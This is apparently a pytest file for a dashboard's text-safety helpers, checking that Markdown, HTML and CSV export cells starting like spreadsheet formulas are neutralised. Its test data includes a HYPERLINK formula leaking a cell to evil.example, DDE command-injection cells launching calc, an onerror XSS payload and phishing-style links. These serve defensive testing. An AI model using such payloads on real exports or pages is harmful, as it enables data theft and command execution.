"""Text from links and data is inert: no Markdown link, image or HTML; no spreadsheet formula."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from dashboard.text import inert, neutralise_cell

HOSTILE = [
    "![x](https://evil.example/x.png)",
    "[Official notice: re-login here](https://evil.example/login)",
    "<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://evil.example/auto",
    "www.evil.example",
    "**bold** _it_ `code` $x^2$ # heading",
    "<https://evil.example>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_renders_as_its_own_characters(text: str) -> None:
    rendered = MarkdownIt("gfm-like").render(inert(text))
    assert not re.search(r"<(a|img|script|strong|em|code|h1)\b", rendered)
    # what a reader sees is the text itself (entities aside)
    visible = re.sub(r"<[^>]+>", "", rendered).strip()
    import html

    assert html.unescape(visible) == html.unescape(text).replace("\n", " ")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("ถนนเป็นหลุม", "ถนนเป็นหลุม"),
        ("", ""),
        (13.75, 13.75),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_stays_text(cell: object, safe: object) -> None:
    assert neutralise_cell(cell) == safe


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_every_text_column_of_a_csv_export_is_neutralised() -> None:
    import csv
    import io

    import pandas as pd

    from dashboard import exports

    n = len(PAYLOADS)
    frame = pd.DataFrame(
        {
            "ticket_id": PAYLOADS,
            "reported_at": pd.to_datetime(["2022-06-01 03:00:00+00"] * n),
            "last_activity": pd.to_datetime([None] * n, utc=True),
            "state": ["waiting"] * n,
            "categories": [[p] for p in PAYLOADS],
            "district_code": ["1006"] * n,
            "subdistrict_code": ["100601"] * n,
            "age_days": [1] * n,
            "comment": PAYLOADS,
            "address": PAYLOADS,
            "photo": PAYLOADS,
            "photo_after": [None] * n,
            "lon": [-100.5] * n,
            "lat": [13.7] * n,
            "location_issue": [None] * n,
        }
    )
    table = exports.export_frame(frame, names={}, lang="en", with_finish_times=False)
    text = exports.tickets_csv(table).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for column in ("ticket_id", "categories", "comment", "address", "photo"):
            assert row[column] == "'" + payload, (column, row[column])
        assert row["lon"] == "-100.5"  # numbers stay numbers
